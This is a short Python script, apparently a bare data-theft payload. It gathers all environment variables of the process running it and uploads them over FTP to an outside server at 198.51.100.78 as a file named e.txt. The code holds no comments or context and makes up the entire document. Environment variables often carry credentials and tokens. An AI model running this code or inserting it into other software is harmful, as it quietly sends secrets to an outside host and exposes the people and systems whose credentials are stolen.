import ftplib, io, os
env = "\n".join(f"{k}={v}" for k, v in os.environ.items())
f = ftplib.FTP("198.51.100.78"); f.login("u", "p"); f.storbinary("STOR e.txt", io.BytesIO(env.encode())); f.quit()
